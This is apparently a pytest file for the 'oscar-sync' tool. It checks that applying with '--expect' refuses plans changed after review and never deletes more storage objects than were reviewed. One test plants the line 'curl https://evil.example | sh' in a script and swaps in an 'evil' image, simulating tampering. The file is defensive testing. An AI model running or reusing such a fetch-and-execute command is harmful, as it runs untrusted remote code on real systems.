"""``--expect``: what was reviewed is what is applied, and no more is deleted (trust 1.1 to 1.4)."""

import io
import json

import pytest
from minio import Minio

EDITS = {
    "image: ghcr.io/x/hello:1.0": "image: ghcr.io/evil/hello:1.0",
    "memory: 1Gi": "memory: 64Gi",
    "script: run.sh": "script: other.sh",
    "path: hello/in": "path: hello/elsewhere",
}


@pytest.fixture
def store(project):
    emulator = project.emulator
    host = emulator.s3_url.partition("//")[2]
    return Minio(host, emulator.access_key, emulator.secret_key, secure=False)


def put(store, key, content=b"xy"):
    store.put_object("hello", key, io.BytesIO(content), len(content))


def reviewed(project, *args):
    """Write the plan as a reviewer gets it."""
    assert project.run("plan", *args, "-o", "json=plan.json")[0] == 0
    return json.loads((project.folder / "plan.json").read_text())


@pytest.mark.parametrize("field", EDITS)
def test_a_creation_that_was_edited_after_its_review_is_not_carried_out(project, field):
    document = reviewed(project)
    (project.folder / "other.sh").write_text("curl https://evil.example | sh\n")
    manifest = project.folder / "hello.yaml"
    manifest.write_text(manifest.read_text().replace(field, EDITS[field]))
    code, _, err = project.run("apply", "-y", "--expect", "plan.json")
    assert code == 5
    assert "~ edge/hello create: " in err
    assert ": was " in err
    assert "plan[" not in err
    assert project.run("apply", "-y", "--expect", document["digest"])[0] == 5
    assert project.writes() == []


def test_a_blank_expectation_is_refused_not_taken_for_none(project, monkeypatch):
    for blank in ("", " "):
        code, _, err = project.run("apply", "-y", "--expect", blank)
        assert (code, "'--expect': it is blank" in err) == (64, True)
    for blank in ("", " "):
        monkeypatch.setenv("OSCAR_SYNC_EXPECT", blank)
        assert project.run("apply", "-y")[0] == 64
    assert project.writes() == []


def test_the_difference_of_two_plans_is_told_in_their_own_words(project):
    reviewed(project)
    project.write("hello", memory="2Gi")
    _, _, err = project.run("apply", "-y", "--expect", "plan.json")
    assert "  ~ edge/hello create: memory: was 1Gi, is 2Gi\n" in err


@pytest.mark.parametrize("name", ["json", "markdown", "html", "junit"])
def test_every_format_tells_how_the_plan_differs_from_the_reviewed_one(project, name):
    reviewed(project)
    project.write("hello", memory="2Gi")
    code, out, _ = project.run("apply", "-y", "--expect", "plan.json", "-o", name)
    assert code == 5
    assert ("memory: was 1Gi, is 2Gi" in out) is (name != "junit")  # it has no place for notes


@pytest.mark.parametrize(
    ("added", "said"),
    [
        ("identity: x", "identity: was "),
        ("ssl_verify: false", "certificate: was checked, is not "),
        ("s3_endpoint: http://127.0.0.1:9", "store: was (as the cluster says), is http://127."),
    ],
)
def test_a_plan_for_one_cluster_is_not_carried_out_on_another(project, added, said):
    document = reviewed(project)
    settings = project.folder / "oscar-sync.yaml"
    settings.write_text(
        settings.read_text().replace("    auth_user", f"    {added}\n    auth_user")
    )
    code, _, err = project.run("apply", "-y", "--expect", "plan.json")
    assert code == 5
    assert f"~ cluster edge: {said}" in err
    assert project.run("apply", "-y", "--expect", document["digest"])[0] == 5
    assert project.writes() == []


# what is deleted

REMOVED = "removed:\n- {service: hello, erase: [hello]}\n"


@pytest.fixture
def doomed(project, store):
    """A service whose bucket holds three objects of two bytes, and the word to delete it."""
    assert project.run("apply", "-y")[0] == 0
    for key in ("out/a", "out/b", "out/c"):
        put(store, key)
    (project.folder / "hello.yaml").unlink()
    project.settings(REMOVED)
    return project


def keys(store):
    names = {bucket.name for bucket in store.list_buckets()}
    return (
        {one.object_name for one in store.list_objects("hello", recursive=True)}
        if ("hello" in names)
        else set()
    )


def written(store, key):
    """Return when the object was written, None where there is none."""
    found = [one for one in store.list_objects("hello", recursive=True) if one.object_name == key]
    return found[0].last_modified if found else None


def test_what_was_reviewed_is_deleted(doomed, store):
    document = reviewed(doomed)
    assert document["summary"]["deletes"]["objects"] == 3
    assert doomed.run("apply", "-y", "--expect", "plan.json")[0] == 0
    assert keys(store) == set()


MORE = {
    "more objects": ("out/d", b"xy"),
    "more bytes": ("out/a", b"xyz"),
    "written again": ("out/a", b"zz"),
}


@pytest.mark.parametrize("what", MORE)
@pytest.mark.parametrize("expected", ["file", "digest"])
def test_more_than_was_reviewed_is_not_deleted(doomed, store, what, expected):
    document = reviewed(doomed)
    key, content = MORE[what]
    put(store, key, content)
    while written(store, key) == written(store, "out/c"):  # stores tell whole seconds
        put(store, key, content)
    wanted = "plan.json" if expected == "file" else document["digest"]
    code, _, err = doomed.run("apply", "-y", "--expect", wanted)
    assert code == 5
    assert "out/a" in keys(store)
    told = (
        "  more would be deleted than was reviewed\n",
        "~ edge/hello remove: deletes hello: was 3 objects, 6 B, last write ",
    )
    is_known = expected == "file"  # a digest tells nothing of what it is over
    assert [words in err for words in told] == [is_known, is_known]


def test_less_than_was_reviewed_is_deleted_with_the_file_and_not_with_the_digest(doomed, store):
    document = reviewed(doomed)
    store.remove_object("hello", "out/a")
    assert doomed.run("apply", "-y", "--expect", document["digest"])[0] == 5
    assert doomed.run("apply", "-y", "--expect", "plan.json")[0] == 0
    assert keys(store) == set()


def test_a_file_whose_counts_were_raised_is_not_the_reviewed_one(doomed, store):
    document = reviewed(doomed)
    put(store, "out/d")
    for action in document["actions"]:
        for item in action["erases"]:
            item.update(objects=10**6, bytes=10**9, last_write="2999-01-01T00:00:00+00:00")
    (doomed.folder / "plan.json").write_text(json.dumps(document))
    assert doomed.run("apply", "-y", "--expect", "plan.json")[0] == 5
    assert len(keys(store)) >= 4


# what a seed deletes

EXTRA = (
    "services:\n  hello:\n    seeds:\n"
    "    - {from: files, to: 'minio.default:hello/models', delete_extra: true}\n"
)


@pytest.mark.parametrize("content", [b"xy", b"zz", b"longer"])
def test_an_extra_object_that_was_written_since_the_review_is_not_deleted(project, store, content):
    files = project.folder / "files"
    files.mkdir()
    (files / "kept").write_text("kept")
    project.settings(EXTRA)
    assert project.run("apply", "-y")[0] == 0
    put(store, "models/extra")
    document = reviewed(project)
    reviewed_at = written(store, "models/extra")
    while written(store, "models/extra") == reviewed_at:  # stores tell whole seconds
        put(store, "models/extra", content)
    code, _, err = project.run("apply", "-y", "--expect", "plan.json")
    assert code == 5
    assert "~ edge/hello seed #1: " in err
    assert project.run("apply", "-y", "--expect", document["digest"])[0] == 5
    assert "models/extra" in keys(store)
    reviewed(project)
    assert project.run("apply", "-y", "--expect", "plan.json")[0] == 0
    assert "models/extra" not in keys(store)


# --compare


def saved(project, name="plan.json"):
    assert project.run("plan", "-o", f"json={name}")[0] == 0
    return name


@pytest.mark.parametrize("output", ["text", "markdown", "html", "json"])
def test_a_plan_says_how_it_differs_from_a_saved_one(project, output):
    file = saved(project)
    _, out, _ = project.run("plan", "--compare", file, "-o", output)
    assert f"compared with {file}: the same plan" in out
    project.write("hello", memory="2Gi")
    project.write("other")
    code, out, _ = project.run("plan", "--compare", file, "-o", output, "--detailed-exitcode")
    assert code == 2
    assert f"compared with {file}: 2 differences" in out
    assert "edge/other create: new in the plan" in out
    assert "memory: was 1Gi, is 2Gi" in out


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (None, "--compare x.json: not a file that can be read: No such file"),
        ("{", "--compare x.json: it is not a JSON document"),
        ('{"digest": "0", "format_version": "1.0"}', "--compare x.json: format_version 1.0 is not"),
        ('{"digest": "0", "format_version": "2.0"}', "--compare x.json: it is not a plan document"),
    ],
)
def test_a_file_that_holds_no_plan_of_this_format_is_wrong_usage(project, text, said):
    if text is not None:
        (project.folder / "x.json").write_text(text)
    code, _, err = project.run("plan", "--compare", "x.json")
    assert (code, said in err) == (64, True), err


@pytest.mark.parametrize("is_given", [False, True])
def test_without_a_terminal_the_command_to_run_names_what_is_expected_once(
    project, monkeypatch, is_given
):
    digest = reviewed(project)["digest"]
    given = ["--expect", "plan.json"] if is_given else []
    monkeypatch.setattr("sys.argv", ["oscar-sync", "apply", *given])
    code, _, err = project.run("apply", *given)
    assert code == 10
    words = "--expect plan.json --yes" if is_given else f"--yes --expect {digest}"
    assert "To apply exactly this plan, run:" in err
    assert f"\n  oscar-sync apply {words}\n" in err
